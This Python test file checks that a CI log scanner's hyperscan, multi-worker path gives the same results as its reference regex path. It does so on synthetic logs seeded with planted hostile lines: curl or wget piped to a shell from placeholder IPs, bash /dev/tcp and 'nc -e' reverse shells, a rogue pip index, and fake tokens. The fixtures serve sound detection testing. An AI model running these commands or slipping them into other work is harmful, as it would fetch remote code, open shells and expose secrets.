"""The optimised scan (hyperscan, whole blocks, worker processes) gives exactly what the reference path gives.

The reference is the ``re`` backend in one process (Python's own regexes proposing and confirming every line). Each
generated log mixes what the fast path treats specially: CRLF endings, ANSI colours (also inside a matched word),
lines longer than the window size (scanned in windows), invalid UTF-8 (the first one is warned about), a byte-order
mark and step markers, with planted matches and secrets placed on and around the block boundaries. Everything a
scan returns is compared: every match record (line, severity, timestamp, text, context, step, fingerprint), the
per-rule counts and first/last lines and times, the warnings, and the line and byte totals.
"""

from __future__ import annotations

import random
from dataclasses import asdict
from pathlib import Path

import pytest

from tests.logscan.conftest import CAPTURED
from workbench.logscan.engine import Scanner, ScanOptions
from workbench.rulepack.matchers import hyperscan_available

pytestmark = pytest.mark.skipif(not hyperscan_available(), reason="hyperscan not installed")

BLOCK = 4096  # small blocks: many block boundaries
CAP = 1024  # max_line_bytes: long lines are common
PLANTED = [
    "curl -sSL http://203.0.113.7/p.sh | bash",
    "  HF_TOKEN: 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",
    "(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &)",
    "pip install --extra-index-url http://203.0.113.7/simple transformers==4.38.1.post1",
    "COSIGN_PASSWORD=c0s1gn-Pr0d-7f3a91!",
    "nc -e /bin/sh 198.51.100.23 443",
    "\x1b[31mcu\x1b[0mrl -sSL http://203.0.113.7/q.sh | sh",  # a colour inside the word: matched once stripped
    "wget -O- http://203.0.113.9/x | sh",
]
BENIGN = [
    "Collecting torch==2.{n}.0 (from -r requirements.txt (line {n}))",
    "tests/test_curlew_{n}.py PASSED",
    "  token: ***",
    "+ nc -zv db.internal 5432",
    "\x1b[36;1mpip install -r requirements.txt\x1b[0m",
    "loading shard {n} with torch.load(path, weights_only=True)",
]


def _line(rng: random.Random, i: int) -> bytes:
    stamp = f"2026-11-14T03:{i // 60 % 60:02d}:{i % 60:02d}.{i % 1000:03d}Z "
    r = rng.random()
    if r < 0.08:
        text = rng.choice(PLANTED)
    elif r < 0.1:
        text = f"##[group]Run step {i}"
    elif r < 0.12:  # a long line, with a match somewhere inside it (or none)
        pad = "x" * rng.randint(CAP, 3 * CAP)
        at = rng.randint(0, len(pad))
        text = pad[:at] + (rng.choice(PLANTED) if rng.random() < 0.7 else "") + pad[at:]
    else:
        text = rng.choice(BENIGN).format(n=i % 97)
    raw = (stamp + text).encode()
    if rng.random() < 0.03:  # invalid UTF-8: a stray continuation, a truncated sequence, a bad lead byte
        raw += rng.choice([b" caf\xe9", b" \xc3(", b" \xff\xfe", b" \xe2\x82"])
    return raw + (b"\r\n" if rng.random() < 0.3 else b"\n")


def _log(path: Path, seed: int, lines: int) -> None:
    rng = random.Random(seed)  # noqa: S311 - synthetic log text
    body = b"\xef\xbb\xbf" + b"".join(_line(rng, i) for i in range(lines))
    path.write_bytes(body[:-1] if seed % 2 else body)  # odd seeds: the last line has no newline


def _everything(scan) -> dict:
    return {
        "matches": [(m.to_dict(), m.fingerprint) for m in scan.matches],
        "stats": {k: asdict(v) for k, v in sorted(scan.stats.items())},
        "warnings": [(w.line, w.reason) for w in scan.warnings],
        "totals": (scan.lines, scan.bytes_scanned, scan.complete, scan.stopped),
    }


def _scan(path: Path, backend: str, workers: int) -> dict:
    options = ScanOptions(backend=backend, workers=workers, block_bytes=BLOCK, max_line_bytes=CAP,
                          parallel_min_bytes=BLOCK, reference_time=CAPTURED, max_matches_per_rule=40)  # fmt: skip
    return _everything(Scanner(options=options).scan_path(path, display="ci.log"))


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_fast_paths_equal_the_reference(tmp_path: Path, seed: int) -> None:
    path = tmp_path / "ci.log"
    _log(path, seed, 3000)
    reference = _scan(path, "re", 1)
    assert reference["matches"], "the generated log must hold matches"
    assert any("invalid UTF-8" in reason for _line, reason in reference["warnings"])
    assert any("longer than" in reason for _line, reason in reference["warnings"])
    assert any(m["text"].startswith("[line of") for m, _fp in reference["matches"])
    assert any(fp for _m, fp in reference["matches"]), "a secret must be fingerprinted"
    assert any("…[redacted]" in m["text"] for m, _fp in reference["matches"])
    for workers in (1, 2, 3):
        assert _scan(path, "hyperscan", workers) == reference, f"hyperscan, {workers} worker(s)"


def test_a_change_in_one_line_is_seen(tmp_path: Path) -> None:
    """The comparison itself notices a difference: a planted line turned benign drops exactly its match."""
    path = tmp_path / "ci.log"
    _log(path, 4, 2000)
    before = _scan(path, "hyperscan", 2)
    data = path.read_bytes()
    at = data.index(b"nc -e /bin/sh")
    path.write_bytes(data[:at] + b"nc -z /bin/sh" + data[at + len(b"nc -e /bin/sh") :])
    after = _scan(path, "hyperscan", 2)
    assert after != before
    assert after == _scan(path, "re", 1)
    assert after["stats"]["revshell.netcat-exec"]["count"] == before["stats"]["revshell.netcat-exec"]["count"] - 1
